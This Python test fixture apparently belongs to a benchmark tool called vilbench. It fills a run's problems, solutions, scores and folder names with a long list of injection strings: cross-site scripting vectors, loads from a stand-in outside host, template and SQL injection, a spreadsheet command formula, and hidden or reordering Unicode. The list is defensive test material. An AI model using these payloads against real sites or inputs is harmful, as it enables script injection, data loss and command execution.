"""Text that wants to be more than text, and runs full of it.

Every payload tries to set `window.pwned`, to open a dialog or to fetch from another host, or
to hide or reorder what stands beside it.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

from pydantic import JsonValue

from vilbench import config
from vilbench.evaluate.stages import note_sampling, note_scoring
from vilbench.search import NodeRecord, TreeRecord
from vilbench.store import trees
from vilbench.store.manifest import Manifest
from vilbench.store.records import Failure, Spent
from vilbench.store.run import Run
from vilbench.testing import tiny_png
from vilbench.types import BytesSource, Image, Problem, Solution, Span, StepScores

_RUN = "window.pwned=1"
_AWAY = "http://elsewhere.invalid"

PAYLOADS: tuple[str, ...] = (
    # script elements
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AWAY}/x.js></script>",
    f"<script\x0ctype=module>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></select></style><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    # event handlers, and ways out of an attribute
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" x="',
    f"`onclick={_RUN}`",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>s</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>m</marquee>",
    f"<a href=# onclick={_RUN} accesskey=x>a</a>",
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    # SVG and MathML
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>m</maction></math>",
    # addresses
    f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>link</a>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"data:text/html,<script>{_RUN}</script>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src={_AWAY}/x.swf>",
    f"<img src={_AWAY}/pixel.png>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><button autofocus>press</button></form>",
    f"![picture]({_AWAY}/p.png) [link](javascript:{_RUN})",
    # styles
    f"<style>@import '{_AWAY}/x.css'; body {{ display: none }}</style>",
    f"x;background:url({_AWAY}/x.png)",
    "<p style='position:fixed;inset:0;background:red'>over all</p>",
    # templates and other languages
    "{{ 7 * 7 }} {% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE problems; --",
    "=cmd|'/c calc'!A1",
    # entities and encodings
    "&lt;script&gt; &amp;#60; &#x3c;b&#x3e;",
    f"&lt;img src=x onerror={_RUN}&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    # what is not seen, or seen in another order
    "right\u202eetadilav si siht\u202c left",
    "\u2066isolated\u2069 \u200bzero\u200dwidth \ufeffmark",
    "null\x00byte <scr\x00ipt>alert(1)</script>",
    "bell\x07 escape\x1b[31mred\x1b[0m back\x08space delete\x7f",
    "first\u2028second\u2029third\x85fourth",
    "tag\U000e0041\U000e0042 soft\u00adhyphen \u2800braille \u3164filler",
    "z" + "\u0301" * 200 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\ufdfd" * 20,
    # size
    "<b>" * 2_000,
    "no-place-to-break-" * 400,
    "(" * 5_000,
)

SHORT: tuple[str, ...] = tuple(one for one in PAYLOADS if len(one) <= 80)

RECIPE = """\
name: tiny
problems: {source: puzzles, split: dev, limit: 4}
sample: {engine: {kind: local, model: "embedded:small"}, n: 4}
scorers:
  - {kind: prm, name: prm, model: some/folder, aggregations: [mean, last-1]}
  - {kind: judge, name: judge-orm, granularity: solution, prompt: brief,
     engine: {kind: local, model: "embedded:small"}}
main: prm
max_failures: 1
"""


def hostile_run(folder: Path, problems: int = 1_000) -> Run:
    """A run with a payload in every text that it can hold; open for writing.

    A problem for every short payload, which is its id, source and category. The longer texts
    of problem and solutions hold several of all payloads, so that all occur in each.

    Args:
        folder: Where.
        problems: Most problems.
    """
    recipe = config.parse_text(RECIPE, "recipe")
    manifest = Manifest.of(SHORT[0], recipe.identity(), seed=3, problem_set="puzzles:dev")
    run = Run.open(folder, manifest, fresh=True)
    shown = [_problem(place) for place in range(min(problems, len(SHORT)))]
    run.add_problems(shown)
    noted: dict[str, JsonValue] = {
        "line": f"vilbench run {PAYLOADS[0]}",
        "recipe": recipe.model_dump(mode="json"),
    }
    run.event("command", noted)
    note_sampling(run, "drawn", 4, SHORT[10])
    for scorer in ("prm", "judge-orm", SHORT[11]):
        note_scoring(run, scorer, f"by {scorer}", "drawn")
    for place, problem in enumerate(shown):
        run.put_solutions("drawn", [_solution(problem, place, index) for index in range(4)])
        run.put_scores("by prm", [_scores(problem, place, index, "prm") for index in range(4)])
        whole = [_scores(problem, place, index, "judge-orm") for index in range(4)]
        run.put_scores("by judge-orm", whole)
        trees.put(run, "grown", (), [trees.Grown(_tree(problem, place), Spent())])
    failure = Failure(
        stage="score", key="by prm", problem_id=SHORT[1], error=PAYLOADS[1], attempts=1
    )
    run.put_failure(failure)
    run.event("input set aside", {"rows": [f"row 1: {one}" for one in PAYLOADS[:20]]})
    run.event(SHORT[13])
    return run


def hostile_name(folder: Path, place: int) -> Path:
    """A folder with a payload for its name, as far as a file system takes it."""
    name = SHORT[place].replace("/", "\u2215").replace("\0", "")
    return folder / name


def texts(place: int, count: int) -> list[str]:
    """Payloads that belong to a place; over the problems all occur."""
    return [PAYLOADS[(place * count + i) % len(PAYLOADS)] for i in range(count)]


def _problem(place: int) -> Problem:
    one = SHORT[place]
    return Problem(
        id=one,
        source=SHORT[place % 7],
        question="\n".join(texts(place, 11)),
        images=(Image.of(BytesSource(tiny_png(size=(4 + place % 3, 4)))),),
        answer="A",
        answer_kind="choice",
        choices=tuple(texts(place, 11)),
        category=SHORT[place % 5],
        metadata={one: [one, {"deep": one}], "json": json.dumps({"x": one})},
    )


def _solution(problem: Problem, place: int, index: int) -> Solution:
    steps = texts(place * 4 + index, 3)
    spans: list[Span] = []
    text = ""
    for one in steps:
        spans.append(Span(len(text), len(text) + len(one)))
        text += one + "\n"
    return Solution(
        problem_id=problem.id,
        index=index,
        text=text + PAYLOADS[index],
        steps=tuple(spans),
        answer=SHORT[(place + index) % len(SHORT)],
        verdict=("correct", "wrong", "unparsed", "failed")[index],
        finish_reason="stop",
        error=PAYLOADS[place % 40] if index == 3 else None,
    )


def _scores(problem: Problem, place: int, index: int, scorer: str) -> StepScores:
    steps = scorer == "prm"
    values: Sequence[float | None] = (0.9, None, 0.1 + index / 5) if steps else (1.0 + index,)
    return StepScores(
        problem_id=problem.id,
        solution_index=index,
        scorer=scorer,
        granularity="step" if steps else "solution",
        values=tuple(values),
        notes=tuple(texts(place * 4 + index, len(values))),
    )


def _tree(problem: Problem, place: int) -> TreeRecord:
    nodes = [NodeRecord(node=0, rollouts=4, right=2)]
    for i, one in enumerate(texts(place, 6), 1):
        ended = {"reason": SHORT[i]} if i == 5 else {}
        nodes.append(
            NodeRecord(
                node=i,
                parent=(0, 1, 1, 0, 4, 4)[i - 1],
                step=one,
                rollouts=2,
                right=i % 3,
                finished=i in (2, 6),
                correct=i == 2 if i in (2, 6) else None,
                **ended,
            )
        )
    return TreeRecord(
        problem_id=problem.id, rule="rollouts", seed=0, nodes=tuple(nodes), stopped=SHORT[place]
    )
